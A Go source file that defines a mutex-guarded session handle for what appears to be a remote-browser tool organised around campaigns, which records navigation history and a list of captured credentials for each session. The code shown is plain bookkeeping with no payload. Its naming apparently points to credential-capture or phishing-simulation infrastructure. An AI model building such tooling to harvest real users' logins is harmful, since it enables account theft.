package session

import (
	"sync"
	"time"

	"github.com/shehryarbajwa/browserbase-control/internal/browser"
	"github.com/shehryarbajwa/browserbase-control/pkg/models"
)

// SessionHandle is the single owner of everything the registry knows about
// one session: metadata, lifecycle state and the browser page.
type SessionHandle struct {
	token      string
	campaignID string
	origin     models.OriginContext
	authHosts  []string
	createdAt  time.Time

	mu           sync.Mutex
	status       models.SessionStatus
	lastActivity time.Time
	currentURL   string
	history      []models.NavigationEntry
	credentials  []models.CapturedCredential
	page         browser.Page
	release      func()
}

func (h *SessionHandle) Token() string { return h.token }

// livePage returns the page if the session is active
func (h *SessionHandle) livePage() (browser.Page, bool) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.status != models.StatusActive || h.page == nil {
		return nil, false
	}
	return h.page, true
}

func (h *SessionHandle) touch(now time.Time) {
	h.mu.Lock()
	h.lastActivity = now
	h.mu.Unlock()
}

func (h *SessionHandle) navigated(url string, at time.Time) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.currentURL = url
	h.lastActivity = at
	h.history = append(h.history, models.NavigationEntry{URL: url, At: at})
}

func (h *SessionHandle) addCredential(c models.CapturedCredential) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.credentials = append(h.credentials, c)
	h.lastActivity = c.Timestamp
}

// History returns a copy of the navigation history
func (h *SessionHandle) History() []models.NavigationEntry {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]models.NavigationEntry(nil), h.history...)
}

// Credentials returns a copy of the credentials captured so far
func (h *SessionHandle) Credentials() []models.CapturedCredential {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]models.CapturedCredential(nil), h.credentials...)
}

func (h *SessionHandle) info(viewers int) models.SessionInfo {
	h.mu.Lock()
	defer h.mu.Unlock()

	info := models.SessionInfo{
		SessionToken:     h.token,
		CampaignID:       h.campaignID,
		Status:           h.status,
		IsActive:         h.status == models.StatusActive,
		CreatedAt:        h.createdAt,
		LastActivity:     h.lastActivity,
		CurrentURL:       h.currentURL,
		ViewerCount:      viewers,
		CredentialsCount: len(h.credentials),
		HistoryLength:    len(h.history),
	}
	if h.page != nil {
		info.DebuggingURL = h.page.DebuggingURL()
	}
	return info
}
